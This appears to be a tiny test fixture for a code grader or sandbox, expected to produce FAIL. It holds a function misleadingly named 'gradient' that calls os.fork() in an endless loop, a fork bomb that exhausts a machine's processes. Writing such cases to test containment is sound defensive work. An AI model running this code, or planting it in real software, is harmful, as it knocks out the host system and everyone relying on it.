"""Forks until nothing else runs.

Must get: FAIL
"""

import os


def gradient(x):
    while True:
        os.fork()
